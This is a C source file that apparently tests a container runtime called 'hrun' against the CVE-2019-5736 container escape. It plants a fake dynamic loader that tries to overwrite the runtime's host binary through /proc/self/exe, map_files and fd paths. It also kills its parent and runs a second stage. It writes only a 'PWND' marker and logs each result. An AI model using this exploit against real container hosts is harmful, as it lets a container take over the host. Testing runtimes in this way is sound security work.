/* SPDX-License-Identifier: GPL-2.0-or-later */
/* Planted in the image as the ELF loader hrun's binary names
 * (/lib64/ld-linux-x86-64.so.2), behind a `/bin/sh` that is
 * `#!/proc/self/exe`: when a clone of hrun in the container execs it, the
 * kernel maps hrun's own binary again and this as its loader, in a
 * process whose exe is that binary (CVE-2019-5736).  It runs in place of
 * a libc, so it has none: raw x86-64 syscalls.
 *
 * Stage 1 appends to /out/log: "ran", then each success against the
 * binary: "fchmod" (through /proc/self/exe), "write" (an O_WRONLY or
 * O_RDWR open and a write), "mapfiles-fchmod", "mapfiles-write" (through
 * /proc/self/map_files).  When /out/kill-parent exists it SIGKILLs its
 * parent (the init, without a pid namespace) and execs itself as stage 2
 * with an fd on the binary: stage 2 reopens that fd for writing through
 * /proc/self/fd/N until nothing runs the binary (5 s at most), writes
 * and logs "rewritten".  Then "done". */
#include <fcntl.h>
#include <signal.h>
#include <sys/stat.h>
#include <sys/syscall.h>

#define ETXTBSY 26

struct dirent64 {
	unsigned long d_ino;
	long d_off;
	unsigned short d_reclen;
	unsigned char d_type;
	char d_name[];
};

__asm__(".globl _start\n"
	"_start:\n"
	"	xor %rbp, %rbp\n"
	"	mov %rsp, %rdi\n"
	"	and $-16, %rsp\n"
	"	call start_c\n"
	"	hlt\n");

static long sc(long n, long a, long b, long c, long d)
{
	register long r10 __asm__("r10") = d;
	long r;

	__asm__ volatile("syscall"
			 : "=a"(r)
			 : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10)
			 : "rcx", "r11", "memory");
	return r;
}

static int out = -1;

static unsigned long len(const char *s)
{
	unsigned long n = 0;

	while (s[n])
		n++;
	return n;
}

static void say(const char *what)
{
	sc(SYS_write, out, (long)what, (long)len(what), 0);
	sc(SYS_write, out, (long)"\n", 1, 0);
}

static int sys_open(const char *path, int flags)
{
	return (int)sc(SYS_open, (long)path, flags, 0644, 0);
}

static int same_file(int a, int b)
{
	struct stat sa, sb;

	return sc(SYS_fstat, a, (long)&sa, 0, 0) == 0 && sc(SYS_fstat, b, (long)&sb, 0, 0) == 0 &&
	       sa.st_ino == sb.st_ino && sa.st_dev == sb.st_dev;
}

/* path: open for writing (both ways) and write 4 bytes at 0 */
static int try_write(const char *path)
{
	static const int modes[] = {O_WRONLY, O_RDWR};

	for (int i = 0; i < 2; i++) {
		int fd = sys_open(path, modes[i]);

		if (fd >= 0 && sc(SYS_pwrite64, fd, (long)"PWND", 4, 0) == 4)
			return 1;
		if (fd >= 0)
			sc(SYS_close, fd, 0, 0, 0);
	}
	return 0;
}

/* Each map_files entry that is the binary: chmod it, write it. */
static void through_map_files(int exe)
{
	char buf[4096], path[128] = "/proc/self/map_files/";
	int dir = sys_open(path, O_RDONLY | O_DIRECTORY);
	long n;

	if (dir < 0)
		return;
	while ((n = sc(SYS_getdents64, dir, (long)buf, sizeof buf, 0)) > 0)
		for (long off = 0; off < n;) {
			struct dirent64 *d = (struct dirent64 *)(buf + off);
			unsigned long l = len(d->d_name), base = 21;
			int fd;

			off += d->d_reclen;
			if (d->d_name[0] == '.' || l > sizeof path - base - 1)
				continue;
			for (unsigned long i = 0; i <= l; i++)
				path[base + i] = d->d_name[i];
			fd = sys_open(path, O_RDONLY);
			if (fd < 0)
				continue;
			if (same_file(fd, exe)) {
				if (sc(SYS_fchmod, fd, 0777, 0, 0) == 0)
					say("mapfiles-fchmod");
				if (try_write(path))
					say("mapfiles-write");
			}
			sc(SYS_close, fd, 0, 0, 0);
		}
}

static void stage2(const char *fdnum)
{
	char path[64] = "/proc/self/fd/";
	unsigned long i = 14;
	struct timespec {
		long s, ns;
	} tick = {0, 100000000};

	for (unsigned long j = 0; fdnum[j] && i < sizeof path - 1; j++)
		path[i++] = fdnum[j];
	path[i] = 0;
	for (int t = 0; t < 50; t++) {
		int fd = sys_open(path, O_WRONLY);

		if (fd >= 0) {
			if (sc(SYS_pwrite64, fd, (long)"PWND", 4, 0) == 4)
				say("rewritten");
			return;
		}
		if (fd != -ETXTBSY)
			return;
		sc(SYS_nanosleep, (long)&tick, 0, 0, 0);
	}
}

static void stage1(const char *self)
{
	int exe = sys_open("/proc/self/exe", O_RDONLY);
	char num[4] = {0};
	char *argv[] = {"stage2", num, 0};

	if (exe < 0)
		return;
	if (sc(SYS_fchmod, exe, 0777, 0, 0) == 0)
		say("fchmod");
	if (try_write("/proc/self/exe"))
		say("write");
	through_map_files(exe);
	if (sys_open("/out/kill-parent", O_RDONLY) < 0 || exe > 99)
		return;
	sc(SYS_kill, sc(SYS_getppid, 0, 0, 0, 0), SIGKILL, 0, 0);
	if (exe >= 10)
		num[0] = (char)('0' + exe / 10);
	num[exe >= 10] = (char)('0' + exe % 10);
	sc(SYS_execve, (long)self, (long)argv, 0, 0);
	say("stage2-exec-failed");
}

void start_c(long *sp);

void start_c(long *sp)
{
	char **argv = (char **)(sp + 1);

	out = sys_open("/out/log", O_WRONLY | O_CREAT | O_APPEND);
	if (sp[0] == 2 && argv[0][0] == 's' && argv[0][1] == 't') {
		stage2(argv[1]);
	} else {
		say("ran");
		stage1("/lib64/ld-linux-x86-64.so.2");
	}
	say("done");
	sc(SYS_exit_group, 0, 0, 0, 0);
}
